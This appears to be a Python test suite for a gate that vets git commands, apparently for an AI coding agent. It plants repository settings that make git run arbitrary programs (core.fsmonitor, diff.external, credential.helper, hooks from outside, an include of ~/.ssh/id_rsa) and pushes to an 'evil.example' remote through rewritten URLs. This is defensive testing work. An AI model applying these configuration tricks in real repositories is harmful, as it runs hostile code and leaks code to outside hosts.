# SPDX-License-Identifier: Apache-2.0
"""Verdicts that depend on the repository a command runs in: real ones, through the whole gate."""

import contextlib
import json
import os
import shutil
import signal
import subprocess
import sys

import gate
from git_world import PUSH_CONFIG, Repositories, executable

SHOWING = ("git status", "git diff", "git diff --stat", "git add .", "git stash list", "git commit -m x")

# A setting of the repository's own, and a command that it makes run a program.
BAITS = (
    ("core.fsmonitor", "/tmp/x", "git status"),
    ("core.fsmonitor", "/tmp/x", "git diff"),
    ("core.fsmonitor", "/tmp/x", "git add ."),
    ("diff.external", "/tmp/x", "git diff HEAD"),
    ("diff.x.textconv", "/tmp/x", "git log -p"),
    ("filter.x.clean", "/tmp/x", "git status"),
    ("core.pager", "/tmp/x", "git log"),
    ("pager.log", "/tmp/x", "git log"),
    ("core.sshCommand", "/tmp/x", "git fetch"),
    ("core.editor", "/tmp/x", "git commit"),
    ("gpg.program", "/tmp/x", "git log --show-signature"),
    ("gpg.program", "/tmp/x", "git commit -m x"),
    ("credential.helper", "!/tmp/x", "git push"),
    ("merge.x.driver", "/tmp/x", "git merge side"),
    ("core.hooksPath", "/tmp", "git commit -m x"),
    ("core.worktree", "/tmp", "git add ."),
    ("remote.origin.uploadpack", "/tmp/x", "git pull"),
    ("url.ext::/tmp/x.insteadOf", "https:", "git fetch"),
)


def settings(r, cases):
    app = r.new()
    with cases.case("an ordinary repository"):
        for command in (*SHOWING, "git log --oneline", "git show", "git branch -a", "cd . && git status"):
            r.allows(command, app)
    for number, (name, value, command) in enumerate(BAITS):
        with cases.case(f"{name} and {command}"):
            bait = r.new(f"bait{number}")
            r.git(bait, "config", name, value)
            r.stops(command, bait)
            r.allows("git rev-parse HEAD", bait)
    with cases.case("the user's own settings are the user's"):
        (r.world.home / ".gitconfig").write_text("[core]\n\tpager = delta\n\teditor = vim\n[alias]\n\tst = status\n",
                                                 encoding="utf-8")
        r.allows("git log", app)
        r.allows("git status", app)
    with cases.case("a linked worktree has the settings of its repository"):
        r.git(app, "worktree", "add", "-q", "../linked")
        r.allows("git status", r.cwd / "linked")
        r.git(app, "config", "core.fsmonitor", "/tmp/x")
        r.stops("git status", r.cwd / "linked", "core.fsmonitor")
        r.git(app, "config", "--unset", "core.fsmonitor")
    with cases.case("a bare repository inside the worktree is the one git uses there"):
        r.git(app, "init", "-q", "--bare", "inner.git")
        r.allows("cd inner.git && git status", app)
        r.git(app / "inner.git", "config", "core.fsmonitor", "/tmp/x")
        r.stops("cd inner.git && git status", app)
        r.stops("git -C inner.git status", app)
        r.allows("git status", app)
    with cases.case("no repository at all"):
        (r.cwd / "plain").mkdir()
        r.allows("git status", r.cwd / "plain")
    with cases.case("a variable of the environment leads git elsewhere"):
        r.stops("git status", app, env=r.world.environment(GIT_DIR="/tmp/x"))
        for name, value in (("core.fsmonitor", "/tmp/x"), ("include.path", "/tmp/x"), ("remote.origin.url", "/tmp/x")):
            given = {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": name, "GIT_CONFIG_VALUE_0": value}
            r.stops("git status", app, env=r.world.environment(**given))
        r.allows("git status", app, env=r.world.environment(GIT_EDITOR="true", GIT_PAGER="cat"))
    with cases.case("somebody else's repository"):
        if os.getuid() == 0:
            other = r.new("other")
            os.chown(other, 1234, 1234)
            r.stops("git status", other, "not this user's own")
            os.chown(other, 0, 0)
            os.chown(other / ".git", 1234, 1234)
            r.stops("git status", other, "not this user's own")
    with cases.case("a secret is not included"):
        secret = r.world.home / ".ssh"
        secret.mkdir(mode=0o700)
        (secret / "id_rsa").write_text("[core]\n", encoding="utf-8")
        bait = r.new("including")
        r.git(bait, "config", "include.path", str(secret / "id_rsa"))
        r.stops("git status", bait, "not read for it")


def hooks(r, cases):
    app = r.new()
    with cases.case("hooks in the repository are the project's own code, for the verbs that are told to change"):
        executable(app / ".git/hooks/pre-commit")
        executable(app / ".git/hooks/pre-push")
        for command in ("git commit -m x", "git status", "git diff", "git log", "git merge side"):
            r.allows(command, app)
    with cases.case("one that runs whenever git only looks is not"):
        executable(app / ".git/hooks/post-index-change")
        r.stops("git status", app, "post-index-change")
        r.stops("git diff", app, "post-index-change")
        r.allows("git log", app)
        (app / ".git/hooks/post-index-change").chmod(0o644)
        r.allows("git status", app)
    with cases.case("a directory of hooks in the worktree, and one elsewhere"):
        executable(app / ".githooks/pre-commit")
        r.git(app, "config", "core.hooksPath", ".githooks")
        r.allows("git commit -m x", app)
        r.git(app, "config", "core.hooksPath", "../elsewhere")
        executable(r.cwd / "elsewhere/pre-commit")
        for command in ("git commit -m x", "git checkout side", "git merge side"):
            r.stops(command, app, "hooks from outside")
        for command in ("git status", "git push"):
            r.stops(command, app)
        r.allows("git log", app)
        r.git(app, "config", "--unset", "core.hooksPath")
    with cases.case("an alias of the repository's"):
        r.git(app, "config", "alias.st", "!/tmp/x")
        r.git(app, "config", "alias.status", "!/tmp/x")
        r.stops("git st", app)
        r.allows("git status", app)
    with cases.case("settings of the line's"):
        for command in ("git -c core.fsmonitor=/tmp/x status", "git -c diff.external=/tmp/x diff",
                        "git -c alias.x=!/tmp/x x", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor "
                        "GIT_CONFIG_VALUE_0=/tmp/x git status", "GIT_EXTERNAL_DIFF=/tmp/x git diff",
                        "GIT_DIR=/tmp/x git status", "git --config-env=core.pager=PAGER log"):
            r.stops(command, app)
        r.allows("git -c color.ui=always status", app)
    with cases.case("of repositories inside"):
        library = r.new("library")
        r.git(app, "-c", "protocol.file.allow=always", "submodule", "add", "-q", f"file://{library}", "lib")
        r.allows("git status", app)
        r.git(app / "lib", "config", "core.fsmonitor", "/tmp/x")
        r.stops("git status", app, "core.fsmonitor")
        r.stops("git status", app / "lib", "core.fsmonitor")
        r.allows("git log", app)
    with cases.case("of another kind of names for objects"):
        r.git(r.cwd, "init", "-q", "--object-format=sha256", "long")
        (r.cwd / "long/x").write_text("x", encoding="utf-8")
        r.git(r.cwd / "long", "add", ".")
        r.git(r.cwd / "long", "commit", "-q", "-m", "x")
        r.allows("git status", r.cwd / "long")
        r.git(r.cwd / "long", "config", "core.fsmonitor", "/tmp/x")
        r.stops("git status", r.cwd / "long")


def pushes(r, cases):
    r.world.config(PUSH_CONFIG)
    app = r.new()
    with cases.case("to a sanctioned remote, by name, address and default"):
        for command in ("git push", "git push origin", "git push origin feature", "git push -u origin HEAD",
                        "git push https://forge.example.net/team/other.git", "cd . && git push"):
            r.allows(command, app)
    with cases.case("to a remote that is not"):
        r.git(app, "remote", "add", "leak", "https://evil.example/x.git")
        for command in ("git push leak", "git push leak HEAD:main", "git push https://evil.example/x",
                        "git push git@evil.example:x.git", "git push --repo leak"):
            r.stops(command, app, "evil.example", source="upload")
    with cases.case("a default remote that settings choose"):
        r.git(app, "config", "remote.pushDefault", "leak")
        r.stops("git push", app, "evil.example", source="upload")
        r.git(app, "config", "branch.feature.pushRemote", "origin")
        r.allows("git push", app)
        r.git(app, "config", "--unset", "remote.pushDefault")
        r.git(app, "config", "branch.feature.pushRemote", "leak")
        r.stops("git push", app, "evil.example", source="upload")
        r.git(app, "config", "--unset", "branch.feature.pushRemote")
    with cases.case("another address to push to"):
        r.git(app, "config", "remote.origin.pushurl", "https://evil.example/y.git")
        r.stops("git push", app, "evil.example", source="upload")
        r.allows("git fetch origin", app)
        r.git(app, "config", "--unset", "remote.origin.pushurl")
    with cases.case("an address that the user's settings rewrite"):
        settings_file = r.world.home / ".gitconfig"
        settings_file.write_text('[url "https://evil.example/"]\n\tpushInsteadOf = https://forge.example.net/\n',
                                 encoding="utf-8")
        r.stops("git push", app, "evil.example", source="upload")
        r.stops("git push https://forge.example.net/team/app", app, "evil.example", source="upload")
        settings_file.write_text('[includeIf "gitdir:/x/"]\n\tpath = more\n', encoding="utf-8")
        (r.world.home / "more").write_text('[url "https://evil.example/"]\n\tinsteadOf = https://\n', encoding="utf-8")
        r.stops("git push", app)
        settings_file.unlink()
        r.allows("git push", app)
        settings_folder = r.world.home / ".config/git"
        settings_folder.mkdir(parents=True)
        (settings_folder / "config").write_text('[url "https://evil.example/"]\n\tinsteadOf = https://forge.example.net/\n',
                                                encoding="utf-8")
        r.stops("git push", app, "evil.example", source="upload")
        (settings_folder / "config").unlink()
    with cases.case("with force"):
        r.stops("git push -f", app)
        r.allows("git push --force-with-lease", app)
        for command in ("git push -f origin main", "git push origin +HEAD:main", "git push --force-with-lease origin main",
                        "git push origin :feature"):
            r.stops(command, app, source="fast-deny")
        r.git(app, "checkout", "-q", "-b", "main")
        r.stops("git push -f", app, "protected", source="fast-deny")
        r.stops("git push --force-with-lease", app, "protected", source="fast-deny")
        r.allows("git push", app)
    with cases.case("a mirror, a helper, nobody"):
        r.git(app, "config", "remote.origin.mirror", "true")
        r.stops("git push", app)
        r.git(app, "config", "--unset", "remote.origin.mirror")
        r.git(app, "config", "remote.origin.vcs", "x")
        r.stops("git push", app)
        r.git(app, "config", "--unset", "remote.origin.vcs")
        r.stops("git push nobody", app)


def failures(r, cases):
    app = r.new()
    r.allows("git status", app)
    with cases.case("a reader that is killed is no answer"):
        for moment in range(12):
            process = r.world.start("hook", "claude")
            process.stdin.write(json.dumps(gate.claude("git status", session=f"k{moment}", cwd=app)).encode())
            process.stdin.close()
            process.stdin = None
            pid = gate.wait_child(process.pid, "git", 2.0)
            if pid is not None:
                with contextlib.suppress(ProcessLookupError):
                    os.kill(pid, signal.SIGKILL)
            out, err = process.communicate(timeout=30)
            reply = gate.Result(process.returncode, out, err, 0).decision
            # It may have had its say already; else nobody had.
            gate.expect(reply in (("allow", "deny", "ask") if pid else ("allow",)), f"{pid}: {reply}")
    with cases.case("without its program there are no facts"):
        whole = r.world.program
        for part in ("broker/auto-classifier", "worker/auto-classifier-worker", "netproc/auto-classifier-netproc"):
            target = r.cwd / "build" / part
            target.parent.mkdir(parents=True)
            shutil.copy(gate.BUILD / part, target)
        r.world.program = r.cwd / "build/broker/auto-classifier"
        r.stops("git status", app, "makes git run is not known")
        r.allows("ls", app)
        r.world.program = whole
    with cases.case("rows of several repositories"):
        bait = r.new("bait")
        r.git(bait, "config", "core.fsmonitor", "/tmp/x")
        rows = []
        for number in range(40):
            rows.append({"id": str(number), "command": "git status", "cwd": str(bait if number % 2 else app)})
        done = r.world.run("check", "--batch", stdin="\n".join(map(json.dumps, rows)).encode() + b"\n")
        replies = [json.loads(line) for line in done.out.decode().splitlines()]
        gate.expect(len(replies) == 40, done)
        gate.expect(not [x for x in replies if int(x["id"]) % 2 and x["decision"] == "allow"], replies)
        gate.expect([x for x in replies if not int(x["id"]) % 2 and x["decision"] == "allow"], replies)
    with cases.case("settings that change between rows"):
        process = r.world.start("check", "--batch")
        answers = []
        for value in (None, "/tmp/x", None, "/tmp/x"):
            if value is None:
                subprocess.run(["git", "-C", str(app), "config", "--unset", "core.fsmonitor"], check=False,
                               env=r.environment)
            else:
                r.git(app, "config", "core.fsmonitor", value)
            process.stdin.write(json.dumps({"id": "x", "command": "git status", "cwd": str(app)}).encode() + b"\n")
            process.stdin.flush()
            answers.append(json.loads(process.stdout.readline()))
        process.communicate(timeout=30)
        gate.expect("allow" not in (answers[1]["decision"], answers[3]["decision"]), answers)


def main():
    if shutil.which("git") is None:
        gate.skip("git is not installed")
    world = gate.World()
    cases = gate.Cases()
    for part in (settings, hooks, pushes, failures):
        part(Repositories(world), cases)
    world.close()
    return cases.close()


sys.exit(main())
